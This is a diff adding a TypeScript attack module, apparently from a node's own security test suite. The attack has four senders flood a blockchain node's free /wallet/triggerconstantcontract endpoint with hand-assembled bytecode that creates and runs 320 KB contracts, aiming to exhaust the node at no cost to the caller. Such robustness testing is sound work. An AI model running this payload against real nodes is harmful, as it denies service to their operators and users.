@@ -1,0 +1,59 @@
+/** Code that a node makes ready to run for callers who pay nothing. */
+
+import { toHex } from "../../../src/protocol/bytes.js";
+import { assemble } from "../../node/vm/assembler.js";
+import { ask } from "../ask.js";
+import { type Attack, attackerHost, tally } from "../attack.js";
+import { constantCall } from "./servers.js";
+
+const SENDERS = 4;
+/** Of a push of eight bytes that is taken from the stack again. */
+const PAIR = "67112233445566778850";
+/** Pairs of the code that is created: as many as the energy of a constant call pays for, a power of two. */
+const DOUBLINGS = 15;
+
+/** Creates a contract of 320 KB of pushes, different from every other by a number behind them, and calls it. */
+function createAndCall(number: number): string {
+	const bytes = PAIR.length / 2;
+	const size = (bytes << DOUBLINGS).toString(16);
+	// The memory is doubled by the precompile that copies; the code ends with a zero, a STOP, and the number.
+	const maker = assemble(`
+		0x${PAIR.padEnd(64, "0")} 0x00 MSTORE 0x${bytes.toString(16)}
+		loop: DUP1 DUP2 DUP2 0x00 0x00 0x04 0xffffff CALL POP
+		0x02 MUL 0x${size} DUP2 LT @loop JUMPI
+		0x${number.toString(16).padStart(64, "0")} DUP2 MSTORE 0x20 ADD 0x00 RETURN
+	`);
+	const length = maker.length.toString(16).padStart(4, "0");
+	const creator = (at: string): Uint8Array =>
+		assemble(`
+			0x${length} 0x${at} 0x00 CODECOPY 0x${length} 0x00 0x00 CREATE
+			0x00 0x00 0x00 0x00 0x00 DUP6 0x02faf080 CALL STOP
+		`);
+	const at = creator("0000").length.toString(16).padStart(4, "0");
+	return toHex(creator(at)) + toHex(maker);
+}
+
+export const compiledCode: readonly Attack[] = [
+	{
+		name: "call-programs",
+		sends: "constant calls that each create a contract of 320 KB of pushes and run it, from 4 senders",
+		async run({ ports }, durationMs) {
+			const end = Date.now() + durationMs;
+			const outcomes: string[] = [];
+			let number = 1;
+			const sender = async (n: number): Promise<void> => {
+				while (Date.now() < end) {
+					const text = await ask(
+						ports.http,
+						"/wallet/triggerconstantcontract",
+						constantCall(createAndCall(number++)),
+						{ host: attackerHost(n) },
+					).catch(() => "closed");
+					outcomes.push(/"result":\s*true/.test(text) ? "answered" : text.slice(0, 100));
+				}
+			};
+			await Promise.all(Array.from({ length: SENDERS }, (_, n) => sender(n)));
+			return tally(outcomes);
+		},
+	},
+];
